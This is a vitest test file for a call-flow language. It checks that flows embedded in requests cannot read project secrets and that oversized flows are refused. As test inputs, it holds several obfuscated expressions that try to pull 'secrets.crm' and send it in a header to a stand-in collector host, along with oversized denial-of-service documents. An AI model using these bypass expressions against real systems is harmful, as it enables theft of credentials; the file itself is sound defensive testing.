/** Flows in requests and in answers of receivers, written by any holder of a project key. */
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/base/core/json.ts';
import { compileDocument, compileFlow } from '../../src/language/flow/compile.ts';
import { FlowLibrary } from '../../src/language/flow/flow-library.ts';
import { verbs } from '../../src/verbs/steps.ts';
import { flowOf, startCall } from '../runtime/test-call.ts';

const SECRETS = { crm: 'the secret of the house' };

/** Sends the value of the expression to a receiver. */
const telling = (expression: string): JsonObject => ({
  flow: 'guest',
  start: 'tell',
  defaults: { exits: { error: 'bye', failed: 'bye', not_found: 'bye' } },
  steps: {
    tell: {
      request: { get: 'https://collector.example/', timeout: '1s', headers: { 'x-found': expression } },
      next: 'bye',
    },
    bye: { hangup: 'normal' },
  },
});

const embedded = (document: JsonObject) => compileDocument(document, 'request', verbs);

describe('a flow inside a request', () => {
  it('gets a diagnostic that it has no secrets', () => {
    expect(embedded(telling('${ secrets.crm }')).diagnostics).toMatchObject([
      { code: 'secret-place', message: expect.stringContaining('sees no secrets') },
    ]);
  });

  it.each([
    "${ $lookup($$, 'sec' & 'rets').crm }",
    '${ $string($$) }',
    '${ $join($$.*.crm) }',
    "${ $lookup($, $join(['secrets'])).crm }",
    '${ ($x := $$; $string($x.**.crm)) }',
  ])('gets no secrets by %s', async (expression) => {
    const { flow } = embedded(telling(expression));
    const call = await startCall(flow!, { spec: { secrets: SECRETS } });
    expect(JSON.stringify(call.requests.map(({ request }) => request))).not.toContain(SECRETS.crm);
    expect(JSON.stringify(call.journal())).not.toContain(SECRETS.crm);
  });

  it('gets none when it runs a stored flow, which has its own', async () => {
    const house = `
flow: house
input: { guest: { type: object } }
start: own
defaults: { exits: { error: bye, failed: bye, not_found: bye } }
steps:
  own: { request: { get: "https://a.example/", timeout: 1s, headers: { x: "\${ secrets.crm }" } }, exits: { ok: guest } }
  guest: { subflow: { flow: "\${ input.guest }" }, next: bye }
  bye: { hangup: normal }`;
    expect(compileFlow(house, 'house.flow.yaml', verbs).flow).toBeDefined();
    const call = await startCall(flowOf(house), {
      spec: { secrets: SECRETS, input: { guest: telling("${ $lookup($$, 'secrets').crm }") } },
      ports: { flow: (document) => (typeof document === 'string' ? undefined : embedded(document).flow) },
    });
    call.requests[0]!.answer({ ok: true, status: 200, headers: {}, body: null });
    await call.clock.settle();
    const seen = call.requests.map(({ request }) => request.headers);
    expect(seen).toEqual([{ x: SECRETS.crm }, {}]);
  });
});

describe('limits of a flow in a request', () => {
  const library = new FlowLibrary(verbs);
  const chain = (length: number, make: (index: number) => JsonObject): JsonObject => ({
    flow: 'guest',
    start: 's0',
    defaults: { exits: { error: 'bye' } },
    steps: {
      ...Object.fromEntries(
        Array.from({ length }, (_, index) => [
          `s${index}`,
          { ...make(index), next: index + 1 < length ? `s${index + 1}` : 'bye' },
        ]),
      ),
      bye: { hangup: 'normal' },
    },
  });
  const logs = (length: number, text: (index: number) => string) => chain(length, (index) => ({ log: text(index) }));

  it.each<[string, JsonObject, string]>([
    ['many steps', logs(200, () => 'x'), 'has more than 200 steps'],
    [
      'many steps of local flows',
      { ...logs(100, () => 'x'), flows: { a: logs(100, () => 'x') } },
      'has more than 200 steps',
    ],
    ['much text', logs(20, () => 'x'.repeat(4000)), 'is larger than 65536 bytes'],
    ['many expressions in one text', logs(1, () => '${1}'.repeat(201)), 'has more than 200 expressions'],
    ['many conditions', chain(199, () => ({ log: 'x ${ call.from }', when: 'true' })), 'has more than 200 expressions'],
    ['a long expression', logs(1, () => `\${ ${'1+'.repeat(1500)}1 }`), 'has too long expressions'],
    ['several rather long ones', logs(5, (n) => `\${ ${'1+'.repeat(500)}${n} }`), 'has too long expressions'],
    ['one that is never closed', logs(1, () => `\${ ${'1+'.repeat(1500)}1`), 'has too long expressions'],
  ])('refuses excessive flows: %s', (_, document, problem) => {
    expect(library.compile(document)).toEqual({
      diagnostics: [expect.objectContaining({ code: 'too-big', message: expect.stringContaining(problem) })],
    });
  });

  it('are sufficient for realistic flows', () => {
    expect(library.compile(logs(199, (index) => `\${ call.from & ' ${index}' }`)).diagnostics).toEqual([]);
    expect(library.compile(logs(1, () => `\${ ${'1+'.repeat(900)}1 }`)).diagnostics).toEqual([]);
  });

  it('allows fifty local flows, and does not even compile further ones', () => {
    const local = { start: 'a', steps: { a: { hangup: 'normal' } } };
    const many = Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`f${index}`, local]));
    const { flow, diagnostics } = library.compile({ ...logs(1, () => 'x'), flows: many });
    expect(flow).toBeUndefined();
    expect(diagnostics.map(({ code, message }) => `${code} ${message}`)).toEqual([expect.stringContaining('/flows')]);
  });

  it('keeps secrets from local flows, too', () => {
    const request = { get: 'https://a.example/', headers: { x: '${ secrets.crm }' }, timeout: '1s' };
    const steps = { a: { request, exits: { ok: '$end', failed: '$end', not_found: '$end', error: '$end' } } };
    const { flow, diagnostics } = library.compile({
      ...chain(1, () => ({ subflow: 'a' })),
      flows: { a: { start: 'a', steps } },
    });
    expect(flow).toBeUndefined();
    expect(diagnostics.map(({ message }) => message).join()).toContain('secrets');
  });

  it('does not apply to flows of the directory', () => {
    expect(compileFlow(JSON.stringify(logs(201, () => 'x')), 'house.flow.json', verbs).diagnostics).toEqual([]);
  });

  it.each<[string, unknown]>([
    ['no JSON', { flow: () => 1 }],
    ['nothing', undefined],
    ['a list', []],
    ['a deep one', Array.from({ length: 100_000 }).reduce<unknown>((inner) => [inner], 1)],
  ])('reports %s without breaking the diagnostics', (_, document) => {
    expect(library.compile(document).diagnostics).not.toEqual([]);
  });
});
